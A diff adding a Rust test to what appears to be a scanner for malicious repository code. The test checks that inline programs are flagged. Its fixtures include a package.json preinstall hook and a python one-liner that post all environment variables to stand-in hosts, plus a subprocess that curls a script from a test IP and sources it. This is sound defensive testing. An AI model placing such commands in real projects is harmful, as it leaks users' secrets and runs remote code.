@@ -1064,3 +1064,26 @@ fn a_document_that_says_it_defangs_its_examples_teaches() {
         "{found:?}"
     );
 }
+
+#[test]
+fn a_program_given_inline_is_read_in_its_language() {
+    caught(
+        "package.json",
+        "{\n  \"name\": \"snippets\",\n  \"scripts\": {\n    \"preinstall\": \"node -e \\\"const h=require('https');const r=h.request({host:'collector.example',method:'POST'});r.end(JSON.stringify(process.env))\\\"\"\n  }\n}\n",
+        Rule::Exfiltration,
+    );
+    caught(
+        "scripts/run.sh",
+        "python3 -c \"import os, urllib.request; urllib.request.urlopen('https://203.0.113.9/c', data=str(dict(os.environ)).encode())\"\n",
+        Rule::Exfiltration,
+    );
+    caught(
+        "scripts/run.py",
+        "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s http://203.0.113.7/x -o /tmp/x; . /tmp/x'])\n",
+        Rule::DownloadExec,
+    );
+    quiet(
+        "package.json",
+        "{\"scripts\": {\"build\": \"node -e \\\"require('fs').mkdirSync('dist', {recursive: true})\\\"\", \"test\": \"python3 -c \\\"import json; print(json.dumps({'ok': True}))\\\"\"}}\n",
+    );
+}
